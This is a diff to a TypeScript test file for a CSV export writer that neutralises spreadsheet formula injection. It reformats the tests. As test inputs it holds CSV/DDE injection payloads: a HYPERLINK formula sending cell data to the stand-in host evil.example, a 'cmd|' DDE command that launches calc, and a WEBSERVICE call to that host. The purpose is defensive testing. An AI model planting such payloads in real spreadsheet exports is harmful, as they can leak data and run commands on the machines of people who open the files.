@@ -16,23 +16,59 @@ const read = (csv: string): string[][] => {
 };
 
 // Each starts a formula (or a DDE payload) in Excel, LibreOffice or Google Sheets.
-const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
+const HOSTILE = [
+  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1,2)',
+  '\t=1+1',
+  '\r=1+1',
+];
 
 describe('the one CSV writer', () => {
   it('puts a quote mark before every cell a spreadsheet would run as a formula, keeping the words', () => {
-    const rows = read(writeCsv(['value'], HOSTILE.map((h) => [h])));
+    const rows = read(
+      writeCsv(
+        ['value'],
+        HOSTILE.map((h) => [h]),
+      ),
+    );
     expect(rows.slice(1).map((r) => r[0])).toEqual(HOSTILE.map((h) => `'${h}`));
   });
 
   it('leaves ordinary text and numbers, including negative numbers, as they are', () => {
-    const rows = read(writeCsv(['text', 'number'], [['Member development, 2008', -5], ['"Quoted" words\nover two lines', 12.5]]));
-    expect(rows).toEqual([['text', 'number'], ['Member development, 2008', '-5'], ['"Quoted" words\nover two lines', '12.5']]);
+    const rows = read(
+      writeCsv(
+        ['text', 'number'],
+        [
+          ['Member development, 2008', -5],
+          ['"Quoted" words\nover two lines', 12.5],
+        ],
+      ),
+    );
+    expect(rows).toEqual([
+      ['text', 'number'],
+      ['Member development, 2008', '-5'],
+      ['"Quoted" words\nover two lines', '12.5'],
+    ]);
   });
 
   it('quotes every cell holding a CR, LF, quote or comma, so none splits a row or a column', () => {
     // No content rule is relied on: these reach the writer as they are.
-    const values = ['lone\rCR', 'lone\nLF', 'both\r\nCRLF', 'end\r', '\nstart', 'a "quote"', 'a, comma', 'all\r"of,\nthem'];
-    const csv = writeCsv(['value', 'next'], values.map((v) => [v, 'after']));
+    const values = [
+      'lone\rCR',
+      'lone\nLF',
+      'both\r\nCRLF',
+      'end\r',
+      '\nstart',
+      'a "quote"',
+      'a, comma',
+      'all\r"of,\nthem',
+    ];
+    const csv = writeCsv(
+      ['value', 'next'],
+      values.map((v) => [v, 'after']),
+    );
     // Read as spreadsheets do: an unquoted CR or LF ends the row, as CRLF does.
     const rows = parse(csv.slice(1), { record_delimiter: ['\r\n', '\r', '\n'] }) as string[][];
     expect(rows).toHaveLength(values.length + 1);
@@ -46,16 +82,26 @@ describe('the one CSV writer', () => {
 
 describe('the downloads use it', () => {
   it('comparison tables neutralise formulas in content from a pull request', () => {
-    const rows = read(tableCsv({ columns: { topic: 'Topic', standard: 'Standard' }, rows: [{ topic: '=1+1', standard: '@cmd' }] }));
-    expect(rows).toEqual([['Topic', 'Standard'], ["'=1+1", "'@cmd"]]);
+    const rows = read(
+      tableCsv({ columns: { topic: 'Topic', standard: 'Standard' }, rows: [{ topic: '=1+1', standard: '@cmd' }] }),
+    );
+    expect(rows).toEqual([
+      ['Topic', 'Standard'],
+      ["'=1+1", "'@cmd"],
+    ]);
   });
 
   it("the self-assessment neutralises formulas in a visitor's answers", () => {
     const standards = assessedStandards(frozenCatalog().frameworks.get('east-midlands')!.data);
     const first = standards[0]!;
     let assessment = createAssessment('east-midlands', standards);
-    assessment = withAnswer(assessment, first.slug, { evidence: '=WEBSERVICE("https://evil.example")', owner: '+44 1234', action: '-1', due: '' });
+    assessment = withAnswer(assessment, first.slug, {
+      evidence: '=WEBSERVICE("https://evil.example")',
+      owner: '+44 1234',
+      action: '-1',
+      due: '',
+    });
     const row = read(assessmentCsv(assessment, standards)).find((r) => r[1] === first.number)!;
-    expect(row.slice(4, 8)).toEqual(["'=WEBSERVICE(\"https://evil.example\")", "'-1", '', "'+44 1234"]);
+    expect(row.slice(4, 8)).toEqual(['\'=WEBSERVICE("https://evil.example")', "'-1", '', "'+44 1234"]);
   });
 });
